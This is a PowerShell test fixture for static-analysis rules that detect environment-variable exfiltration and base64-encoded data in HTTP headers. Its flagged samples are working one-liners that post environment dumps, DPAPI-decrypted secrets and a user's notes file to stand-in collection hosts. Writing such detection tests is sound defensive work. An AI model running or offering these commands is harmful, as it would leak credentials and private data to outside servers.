# Inert PowerShell samples (never run): run-time data sent out, by variable, upload method and custom header.
$all = Get-ChildItem env: | Out-String
$wc = New-Object Net.WebClient
# ruleid: shell-env-exfiltration
$wc.UploadString("https://collect.example.com/d", $all)
$secret = [Security.Cryptography.ProtectedData]::Unprotect($blob, $null, 'CurrentUser')
$packed = [Convert]::ToBase64String($secret)
# ruleid: shell-env-exfiltration
Invoke-RestMethod -Uri https://collect.example.com/k -Method Post -Body $packed
$path = Get-ChildItem env:PATH
# ok: shell-env-exfiltration
Invoke-RestMethod -Uri https://api.example.com/status -Method Post -Body $path
# ok: shell-env-exfiltration
Write-Output $all

$notes = Get-Content "$HOME\Documents\notes.txt" -Raw
$enc = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($notes))
# ruleid: shell-encoded-data-in-header
irm https://collect.example.com/h -Headers @{ "X-Context" = $enc }
$h = @{ "X-Preview" = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:PATH)) }
# ruleid: shell-encoded-data-in-header
Invoke-WebRequest -Uri https://collect.example.com/i -Headers $h
# ruleid: shell-encoded-data-in-header
$wc.Headers.Add("X-Session-Data", $enc)
$sig = [Convert]::ToBase64String($hmac.ComputeHash($bytes))
# ok: shell-encoded-data-in-header
irm https://api.example.com/x -Headers @{ "X-Signature" = $sig }
# ok: shell-encoded-data-in-header
irm https://api.example.com/x -Headers @{ "X-Client-Name" = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("report-tool")) }
# ok: shell-encoded-data-in-header
irm https://api.example.com/x -Headers @{ "Authorization" = "Basic " + [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("$user:$pass")) }
# ok: shell-encoded-data-in-header
irm https://api.example.com/x -Method Post -Body $enc

$Board = 'https://buildhealth.example.net/api/machines'
$report = [ordered]@{}
$report.host = $env:COMPUTERNAME
$scoped = @{}
foreach ($s in 'Process', 'User') { $scoped[$s] = [Environment]::GetEnvironmentVariables($s) }
$report.variables = $scoped
# ruleid: shell-env-exfiltration
Invoke-RestMethod -Uri $Board -Method Post -ContentType 'application/json' `
    -Body ($report | ConvertTo-Json -Depth 4 -Compress)
$summary = [ordered]@{}
$summary.count = $scoped.Count
$summary.names = $scoped.Keys
# ok: shell-env-exfiltration
Invoke-RestMethod -Uri $Board -Method Post -Body ($summary | ConvertTo-Json)
